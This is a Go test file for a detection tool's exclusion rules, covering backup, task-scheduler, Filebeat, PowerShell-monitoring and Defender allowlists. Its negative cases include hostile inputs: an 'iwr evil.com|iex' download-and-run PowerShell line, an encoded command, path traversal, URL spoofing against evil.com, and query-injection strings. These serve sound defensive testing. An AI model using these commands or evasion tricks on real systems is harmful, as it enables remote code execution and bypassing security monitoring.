package exclusion

import (
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"foxhound/kql"
)

var site = Facts{
	LogServers:  []string{"10.9.0.5", "logs.corp.example"},
	BackupHosts: []string{"backup01.corp.example", "Backup02"},
	Admins:      []string{"svc-admin", `CORP\ops`, "jo@corp.example"},
	ScriptPaths: []string{`C:\Monitoring\`, `C:\Admin Scripts`},
}

// A process is the columns of a row that stay the same in a scenario's tests.
type process map[string]string

// with returns the row with other values: column, value, column, value.
func (p process) with(changes ...string) process {
	row := make(process)
	for k, v := range p {
		row[k] = v
	}
	for i := 0; i < len(changes); i += 2 {
		row[changes[i]] = changes[i+1]
	}
	return row
}

const (
	folder  = "InitiatingProcessFolderPath"
	file    = "InitiatingProcessFileName"
	sid     = "InitiatingProcessAccountSid"
	user    = "InitiatingProcessAccountName"
	domain  = "InitiatingProcessAccountDomain"
	upn     = "InitiatingProcessAccountUpn"
	command = "InitiatingProcessCommandLine"
	parent  = "InitiatingProcessParentFileName"
	device  = "DeviceName"
	ip      = "RemoteIP"
	url     = "RemoteUrl"
)

var (
	veeam = process{device: "backup01.corp.example", folder: `c:\program files\veeam\backup and replication\backup\veeam.backup.service.exe`}
	netsh = process{user: "svc-admin", file: "netsh.exe", folder: `c:\windows\system32`, parent: "svchost.exe"}
	beat  = process{ip: "10.9.0.5", file: "filebeat.exe", folder: `c:\program files\filebeat\filebeat.exe`}
	shell = process{file: "powershell.exe", folder: `c:\windows\system32\windowspowershell\v1.0\powershell.exe`,
		command: `powershell.exe -NoProfile -File C:\Monitoring\health.ps1 -Check Get-Service`}
	defender = process{file: "MsMpEng.exe", sid: "S-1-5-18", folder: `c:\programdata\microsoft\windows defender\platform\4.18.26040.3-0`}
)

var holdsTests = []struct {
	name string
	row  process
	want bool
}{
	{"veeam-backup", veeam, true},
	{"veeam-backup", veeam.with(device, "BACKUP02"), true},
	{"veeam-backup", veeam.with(device, "backup02.corp.example"), true},
	{"veeam-backup", veeam.with(device, "backup02-x.corp.example"), false},
	{"veeam-backup", veeam.with(device, "backup021"), false},
	{"veeam-backup", veeam.with(folder, `C:\Program Files\Common Files\Veeam`), true},
	{"veeam-backup", veeam.with(folder, `c:\program files (x86)\veeam\x`), true},
	{"veeam-backup", veeam.with(device, "backup01"), false},
	{"veeam-backup", veeam.with(device, "backup01.corp.example.evil.com"), false},
	{"veeam-backup", veeam.with(device, ""), false},
	{"veeam-backup", veeam.with(folder, `c:\users\eve\veeam\veeam.backup.service.exe`), false},
	{"veeam-backup", veeam.with(folder, `c:\program files\veeam evil\x.exe`), false},
	{"veeam-backup", veeam.with(folder, `c:\users\eve\c:\program files\veeam\x.exe`), false},
	{"veeam-backup", process{command: "veeam backup snapshot", file: "veeam.exe"}, false},

	{"task-scheduler-admin", netsh, true},
	{"task-scheduler-admin", netsh.with(folder, `C:\Windows\System32\netsh.exe`, file, "NETSH.EXE"), true},
	{"task-scheduler-admin", netsh.with(file, "diskpart.exe", parent, "taskhostw.exe"), true},
	{"task-scheduler-admin", netsh.with(file, "schtasks.exe", parent, "taskeng.exe"), true},
	{"task-scheduler-admin", netsh.with(user, "ops", domain, "corp"), true},
	{"task-scheduler-admin", netsh.with(user, "jo", upn, "Jo@corp.example"), true},
	{"task-scheduler-admin", netsh.with(user, "ops", domain, "other"), false},
	{"task-scheduler-admin", netsh.with(user, "eve"), false},
	{"task-scheduler-admin", netsh.with(user, ""), false},
	{"task-scheduler-admin", netsh.with(file, "cmd.exe", command, "cmd.exe /c schtasks /run"), false},
	{"task-scheduler-admin", netsh.with(parent, "winword.exe"), false},
	{"task-scheduler-admin", netsh.with(folder, `c:\users\eve\netsh.exe`), false},
	{"task-scheduler-admin", netsh.with(folder, `c:\windows\system32\spool\drivers\color\netsh.exe`), false},
	{"task-scheduler-admin", netsh.with(folder, `c:\windows\system32\..\temp\netsh.exe`), false},

	{"filebeat-log-shipping", beat, true},
	{"filebeat-log-shipping", beat.with(ip, "::ffff:10.9.0.5"), true},
	{"filebeat-log-shipping", beat.with(ip, "10.9.0.6", url, "LOGS.corp.example"), true},
	{"filebeat-log-shipping", beat.with(folder, `c:\program files\elastic\agent\data\components`), true},
	{"filebeat-log-shipping", beat.with(ip, "80.211.47.159"), false},
	{"filebeat-log-shipping", beat.with(ip, "110.9.0.5"), false},
	{"filebeat-log-shipping", beat.with(ip, "", url, "logs.corp.example."), true},
	{"filebeat-log-shipping", beat.with(ip, "", url, "logs.corp.example:5044"), true},
	{"filebeat-log-shipping", beat.with(ip, "", url, "https://Logs.corp.example:9200/_bulk"), true},
	{"filebeat-log-shipping", beat.with(ip, "", url, "http://logs.corp.example?x=1"), true},
	{"filebeat-log-shipping", beat.with(ip, "", url, "logs.corp.example.evil.com"), false},
	{"filebeat-log-shipping", beat.with(ip, "", url, "https://logs.corp.example@evil.com/"), false},
	{"filebeat-log-shipping", beat.with(ip, "", url, "https://logs.corp.example:9200@evil.com/"), false},
	{"filebeat-log-shipping", beat.with(ip, "", url, `https://logs.corp.example\@evil.com/`), false},
	{"filebeat-log-shipping", beat.with(ip, "", url, "https://evil.com/logs.corp.example/"), false},
	{"filebeat-log-shipping", beat.with(ip, "", url, "logs-corp.example"), false},
	{"filebeat-log-shipping", beat.with(folder, `c:\users\eve\filebeat\filebeat.exe`), false},
	{"filebeat-log-shipping", beat.with(folder, `c:\program files\filebeat-evil\filebeat.exe`), false},
	{"filebeat-log-shipping", beat.with(file, "filebeat2.exe"), false},
	{"filebeat-log-shipping", beat.with(file, "evil.exe", command, "filebeat.exe"), false},

	{"powershell-monitoring", shell, true},
	{"powershell-monitoring", shell.with(folder, `c:\windows\syswow64\windowspowershell\v1.0`), true},
	{"powershell-monitoring", shell.with(command, `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NonInteractive -ExecutionPolicy RemoteSigned -file "c:\admin scripts\sub\Get-Service.ps1"`), true},
	{"powershell-monitoring", shell.with(command, `powershell.exe Get-Service`), false},
	{"powershell-monitoring", shell.with(command, `powershell.exe -File C:\Monitoring\health.ps1`), false},
	{"powershell-monitoring", shell.with(command, `powershell.exe -File C:\Monitoring\health.ps1 -Check Get-Services`), false},
	{"powershell-monitoring", shell.with(command, `powershell.exe -c "iwr evil.com|iex; Get-Service" # -File C:\Monitoring\health.ps1`), false},
	{"powershell-monitoring", shell.with(command, `powershell.exe -enc SQBFAFgA -File C:\Monitoring\health.ps1 Get-Service`), false},
	{"powershell-monitoring", shell.with(command, ` "iex(evil);Get-Service" -File C:\Monitoring\health.ps1`), false},
	{"powershell-monitoring", shell.with(command, `powershell.exe -File C:\Monitoring\..\Users\eve\Get-Service.ps1`), false},
	{"powershell-monitoring", shell.with(command, `powershell.exe -File C:\MonitoringEvil\Get-Service.ps1`), false},
	{"powershell-monitoring", shell.with(command, `powershell.exe -File C:\Admin Scripts\x.ps1 Get-Service`), false},
	{"powershell-monitoring", shell.with(command, `powershell.exe -File C:\Users\eve\x.ps1 Get-Service C:\Monitoring\health.ps1`), false},
	{"powershell-monitoring", shell.with(folder, `c:\users\eve\powershell.exe`), false},
	{"powershell-monitoring", shell.with(file, "pwsh.exe"), false},

	{"windows-defender-scan", defender, true},
	{"windows-defender-scan", defender.with(file, "msmpeng.exe", folder, `C:\Program Files\Windows Defender`), true},
	{"windows-defender-scan", defender.with(folder, `c:\program files\windows defender\msmpeng.exe`), true},
	{"windows-defender-scan", defender.with(folder, `c:\users\eve\msmpeng.exe`), false},
	{"windows-defender-scan", defender.with(folder, `C:\Program Files\Windows Defender evil\MsMpEng.exe`), false},
	{"windows-defender-scan", defender.with(folder, `c:\programdata\microsoft\windows defender\quarantine`), false},
	{"windows-defender-scan", defender.with(folder, `d:\program files\windows defender\msmpeng.exe`), false},
	{"windows-defender-scan", defender.with(folder, ``), false},
	{"windows-defender-scan", defender.with(sid, "S-1-5-21-1-2-3-1001"), false},
	{"windows-defender-scan", defender.with(sid, "s-1-5-18"), false},
	{"windows-defender-scan", defender.with(sid, ""), false},
	{"windows-defender-scan", defender.with(file, "MpCmdRun.exe"), false},
	{"windows-defender-scan", process{command: "MsMpEng.exe Windows Defender"}, false},
	{"windows-defender-scan", process{}, false},
}

func TestHolds(t *testing.T) {
	byName := make(map[string]Exclusion)
	for _, x := range Builtins(site) {
		byName[x.Name] = x
	}
	for _, tt := range holdsTests {
		x := byName[tt.name]
		if got := x.Holds(func(c string) string { return tt.row[c] }); got != tt.want {
			t.Errorf("%s covers %v = %v, want %v", tt.name, tt.row, got, tt.want)
		}
	}
}

// Without its facts an exclusion covers nothing, not even its own placeholder.
func TestInactiveHoldsNothing(t *testing.T) {
	placeholder := regexp.MustCompile(`<(backup host|administrator|log server|script path)>`)
	for _, x := range Builtins(Facts{BackupHosts: []string{"", " "}}) {
		if x.Active != (x.Needs == "") {
			t.Errorf("%s is active: %v, needing %q", x.Name, x.Active, x.Needs)
		}
		text := kql.PrintExpr(x.Predicate)
		if !x.Active && !placeholder.MatchString(text) {
			t.Errorf("%s has no placeholder: %s", x.Name, text)
		}
	}
	x := Builtins(Facts{})[0]
	row := veeam.with(device, "<backup host>")
	if x.Holds(func(c string) string { return row[c] }) {
		t.Error("an inactive exclusion covers a row")
	}
}

// A fact is data, whatever it holds.
func TestHostileFacts(t *testing.T) {
	for _, fact := range []string{`" or 1 == 1 //`, `x") or true`, "a\nb", "\x1b[31m", `.*`, `(`, `c:\`, `\`, `[`, "é"} {
		for _, x := range Builtins(Facts{LogServers: []string{fact}, BackupHosts: []string{fact}, Admins: []string{fact}, ScriptPaths: []string{`C:\x` + fact}}) {
			text := kql.PrintExpr(x.Predicate)
			if strings.ContainsAny(text, "\n\x1b") || !x.Active {
				t.Errorf("%s with %q: %s", x.Name, fact, text)
			}
			if x.Holds(func(string) string { return "eve" }) {
				t.Errorf("%s with %q covers any row", x.Name, fact)
			}
		}
	}
	x := Builtins(Facts{BackupHosts: []string{`a"b`}})[0]
	row := veeam.with(device, `A"B`)
	if !x.Holds(func(c string) string { return row[c] }) {
		t.Error("a fact with a quote is not compared as it is")
	}
}

// A script folder must be one that administrators can keep to themselves.
func TestScriptFolders(t *testing.T) {
	given := []string{`C:\Monitoring\`, `d:/scripts`, `\\srv\share\x`, `\\srv\share`, `C:\Monitoring`, `C:\`, `C:`, `\`, `\\srv`, `scripts`, `.\x`, `C:x`, ` `}
	want := []string{`C:\Monitoring`, `d:\scripts`, `\\srv\share\x`, `\\srv\share`}
	if diff := cmp.Diff(want, folders(given)); diff != "" {
		t.Errorf("folders (-want +got):\n%s", diff)
	}
}

func TestMissing(t *testing.T) {
	network := strings.Fields(`TimeGenerated DeviceName RemoteIP RemoteUrl InitiatingProcessFolderPath InitiatingProcessFileName
		InitiatingProcessAccountSid InitiatingProcessAccountName InitiatingProcessAccountDomain InitiatingProcessAccountUpn
		InitiatingProcessCommandLine InitiatingProcessParentFileName`)
	files := network[:2:2]
	files = append(files, network[4:]...)
	for _, tt := range []struct {
		table   string
		columns []string
		want    map[string][]string
	}{
		{"DeviceNetworkEvents", network, map[string][]string{}},
		{"DeviceFileEvents", files, map[string][]string{"filebeat-log-shipping": {ip, url}}},
		{"CommonSecurityLog", []string{"TimeGenerated", "DeviceName", "SourceIP", "RemoteIP"}, map[string][]string{
			"veeam-backup":          {folder},
			"task-scheduler-admin":  {domain, user, upn, file, folder, parent},
			"filebeat-log-shipping": {file, folder, url},
			"powershell-monitoring": {command, file, folder},
			"windows-defender-scan": {sid, file, folder},
		}},
	} {
		has := make(map[string]bool)
		for _, c := range tt.columns {
			has[c] = true
		}
		got := make(map[string][]string)
		for _, x := range Builtins(site) {
			if lacks := x.Missing(func(c string) bool { return has[c] }); len(lacks) > 0 {
				got[x.Name] = lacks
			}
		}
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("missing from %s (-want +got):\n%s", tt.table, diff)
		}
	}
}

// The pages print these; every one must say what it is in its own words.
func TestBuiltinsExplainThemselves(t *testing.T) {
	seen := make(map[string]bool)
	for _, x := range Builtins(Facts{}) {
		for _, text := range []string{x.Name, x.Title, x.Description, x.Filter, x.Reason} {
			if text == "" || seen[text] {
				t.Errorf("%s: %q is empty or said twice", x.Name, text)
			}
			seen[text] = true
		}
		if strings.Count(x.Description, "%s") != 1 || strings.Count(x.Description, "%") != 1 || x.Owner != "foxhound" {
			t.Errorf("%s: description %q, owner %q", x.Name, x.Description, x.Owner)
		}
	}
}
